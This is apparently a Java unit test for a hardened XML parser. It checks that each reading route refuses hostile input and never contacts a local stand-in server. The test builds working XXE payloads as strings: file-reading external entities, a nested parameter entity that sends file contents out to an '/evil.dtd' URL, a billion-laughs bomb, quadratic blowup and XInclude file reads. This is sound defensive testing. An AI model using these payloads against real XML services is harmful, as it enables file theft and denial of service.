package org.beffroi.core.xml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import javax.xml.stream.XMLStreamConstants;
import javax.xml.stream.XMLStreamReader;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.xml.sax.InputSource;
import org.xml.sax.helpers.DefaultHandler;

/** Each way to read XML against each way to abuse it. */
@Timeout(60)
class HardenedXmlTest {

    private static final String SECRET = "le-secret-du-fichier-voisin";
    private static final XmlLimits SMALL = new XmlLimits(1 << 20, 10_000, 100_000, 60, 50);

    @TempDir
    private Path folder;

    /** A way to read a document, that gives what it holds. */
    private interface Way {
        String read(byte[] xml) throws Exception;
    }

    private static Map<String, Way> ways() {
        return Map.of(
                "tree",
                xml -> HardenedXml.tree(xml, HardenedXml.Names.NAMESPACES, SMALL)
                        .getDocumentElement()
                        .getTextContent(),
                "tree as written",
                xml -> HardenedXml.tree(xml, HardenedXml.Names.AS_WRITTEN, SMALL)
                        .getDocumentElement()
                        .getTextContent(),
                "stream",
                HardenedXmlTest::streamed,
                "parser",
                HardenedXmlTest::parsed);
    }

    private static String streamed(byte[] xml) throws Exception {
        XMLStreamReader reader = HardenedXml.stream(new ByteArrayInputStream(xml), SMALL);
        StringBuilder text = new StringBuilder();
        while (reader.hasNext()) {
            int event = reader.next();
            if (event == XMLStreamConstants.DTD || event == XMLStreamConstants.ENTITY_REFERENCE) {
                throw new BadXml(BadXml.Reason.ENTITIES, 1, null);
            }
            if (event == XMLStreamConstants.CHARACTERS) {
                text.append(reader.getText());
            }
        }
        return text.toString();
    }

    private static String parsed(byte[] xml) throws Exception {
        StringBuilder text = new StringBuilder();
        InputStream watched = HardenedXml.watched(new ByteArrayInputStream(xml), SMALL);
        HardenedXml.parser(SMALL).parse(new InputSource(watched), new DefaultHandler() {
            @Override
            public void characters(char[] letters, int start, int length) {
                text.append(letters, start, length);
            }
        });
        return text.toString();
    }

    private static Map<String, String> hostile(String file, String web) {
        Map<String, String> cases = new TreeMap<>();
        cases.put("file", "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + file + "\">]><a>&x;</a>");
        cases.put("web", "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + web + "\">]><a>&x;</a>");
        cases.put("external type", "<!DOCTYPE a SYSTEM \"" + web + "\"><a/>");
        cases.put("public type", "<!DOCTYPE a PUBLIC \"-//x\" \"" + web + "\"><a/>");
        cases.put("parameter", "<!DOCTYPE a [<!ENTITY % p SYSTEM \"" + web + "\"> %p;]><a/>");
        cases.put(
                "parameter in parameter",
                "<!DOCTYPE a [<!ENTITY % f SYSTEM \"" + file + "\"><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM '" + web
                        + "?%f;'>\">%e;%s;]><a/>");
        cases.put("laughs", laughs());
        cases.put(
                "quadratic",
                "<!DOCTYPE a [<!ENTITY x \"" + "x".repeat(5_000) + "\">]><a>" + "&x;".repeat(5_000) + "</a>");
        cases.put("unparsed", "<!DOCTYPE a [<!NOTATION n SYSTEM \"" + web + "\">]><a/>");
        cases.put("attribute default", "<!DOCTYPE a [<!ATTLIST a b CDATA \"" + SECRET + "\">]><a/>");
        cases.put("deep", "<a>".repeat(100_000) + "</a>".repeat(100_000));
        cases.put("many", "<a>" + "<b/>".repeat(200_000) + "</a>");
        cases.put("attribute", "<a b=\"" + "x".repeat(900_000) + "\"/>");
        cases.put("text", "<a>" + "x".repeat(900_000) + "</a>");
        cases.put("name", "<" + "x".repeat(900_000) + "/>");
        cases.put("comment", "<a><!--" + "x".repeat(900_000) + "--></a>");
        cases.put("instruction", "<?x " + "x".repeat(900_000) + "?><a/>");
        cases.put("large", "<a>" + "<!-- -->".repeat(200_000) + "</a>");
        StringBuilder attributes = new StringBuilder("<a");
        for (int i = 0; i < 5_000; i++) {
            attributes.append(" a").append(i).append("=\"\"");
        }
        cases.put("attributes", attributes + "/>");
        cases.put("cut", "<a><b>");
        cases.put("cut tag", "<a b=\"");
        cases.put("two roots", "<a/><a/>");
        cases.put("empty", "");
        cases.put("no markup", "bonjour");
        cases.put("zero byte", "<a>\u0000</a>");
        cases.put("unknown entity", "<a>&inconnue;</a>");
        return cases;
    }

    private static String laughs() {
        StringBuilder text = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 \"ha\">");
        for (int i = 1; i < 12; i++) {
            text.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10));
            text.append("\">");
        }
        return text + "]><a>&l11;</a>";
    }

    @Test
    void everyWayRefusesEverything() throws IOException {
        Path beside = Files.writeString(folder.resolve("beside.txt"), SECRET);
        AtomicInteger calls = new AtomicInteger();
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            calls.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        server.start();
        try {
            String web = "http://127.0.0.1:" + server.getAddress().getPort() + "/evil.dtd";
            hostile(beside.toUri().toString(), web).forEach((name, text) -> ways().forEach((way, reading) ->
                    assertThatThrownBy(() -> reading.read(text.getBytes(StandardCharsets.UTF_8)))
                            .as(name + " by " + way)
                            .isInstanceOf(Exception.class)
                            .isNotInstanceOf(RuntimeException.class)));
            String included = "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\""
                    + beside.toUri() + "\"/><xi:include href=\"" + web + "\"/></a>";
            ways().forEach((way, reading) -> assertThat(read(reading, included)).doesNotContain(SECRET));
            String styled = "<?xml-stylesheet href=\"" + web + "\"?><a xsi:schemaLocation=\"x " + web
                    + "\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"/>";
            ways().forEach((way, reading) -> assertThat(read(reading, styled)).isEmpty());
        } finally {
            server.stop(0);
        }
        assertThat(calls).hasValue(0);
    }

    private static String read(Way way, String text) {
        try {
            return way.read(text.getBytes(StandardCharsets.UTF_8));
        } catch (Exception e) {
            throw new AssertionError(e);
        }
    }

    @Test
    void whatIsHonestIsRead() {
        String text = "\uFEFF<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<a b='1'>é &amp; &#233; <![CDATA[<b>]]></a>";
        ways().forEach((way, reading) -> assertThat(read(reading, text)).as(way).isEqualTo("é & é <b>"));
        Charset latin = StandardCharsets.ISO_8859_1;
        String declared = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>é</a>";
        ways().forEach((way, reading) -> {
            try {
                assertThat(reading.read(declared.getBytes(latin))).as(way).isEqualTo("é");
            } catch (Exception e) {
                throw new AssertionError(way, e);
            }
        });
    }

    /** The parsers of Java print such a byte before they throw it: into the output of a verb that somebody reads. */
    @Test
    void aByteThatIsNoCharacterIsToldAndNotPrinted() {
        PrintStream before = System.err;
        ByteArrayOutputStream printed = new ByteArrayOutputStream();
        System.setErr(new PrintStream(printed, true, StandardCharsets.UTF_8));
        try {
            byte[] broken = "<a>\u00e9</a>".getBytes(StandardCharsets.ISO_8859_1);
            ways().forEach((way, reading) -> assertThatThrownBy(() -> reading.read(broken))
                    .satisfies(
                            thrown -> assertThat(BadXml.of((Exception) thrown).reason())
                                    .as(way)
                                    .isEqualTo(BadXml.Reason.BROKEN)));
        } finally {
            System.setErr(before);
        }
        assertThat(printed.toString(StandardCharsets.UTF_8)).isEmpty();
    }

    @Test
    void encodingsInWhichNothingCanBeCountedAreRefused() {
        String plain = "<?xml version=\"1.0\"?><a/>";
        String declared = "<?xml version=\"1.0\" encoding=\"ISO-2022-JP\"?><a/>";
        ways().forEach((way, reading) -> {
            for (byte[] wide : new byte[][] {
                plain.getBytes(StandardCharsets.UTF_16),
                plain.getBytes(StandardCharsets.UTF_16LE),
                plain.getBytes(StandardCharsets.UTF_16BE),
                plain.getBytes(Charset.forName("UTF-32")),
                declared.getBytes(StandardCharsets.US_ASCII)
            }) {
                assertThatThrownBy(() -> reading.read(wide)).satisfies(thrown -> assertThat(
                                BadXml.of((Exception) thrown).reason())
                        .as(way)
                        .isEqualTo(BadXml.Reason.ENCODING));
            }
        });
    }

    @Test
    void whatIsWrongIsToldWithItsReason() {
        Map<String, BadXml.Reason> reasons = Map.of(
                "file", BadXml.Reason.ENTITIES,
                "deep", BadXml.Reason.LARGE,
                "many", BadXml.Reason.LARGE,
                "attribute", BadXml.Reason.LARGE,
                "attributes", BadXml.Reason.LARGE,
                "cut", BadXml.Reason.BROKEN);
        Map<String, String> cases = hostile("file:///none", "http://127.0.0.1:9/");
        reasons.forEach((name, reason) -> ways().forEach((way, reading) -> assertThatThrownBy(
                        () -> reading.read(cases.get(name).getBytes(StandardCharsets.UTF_8)))
                .satisfies(thrown -> assertThat(BadXml.of((Exception) thrown).reason())
                        .as(name + " by " + way)
                        .isEqualTo(reason))));
    }
}
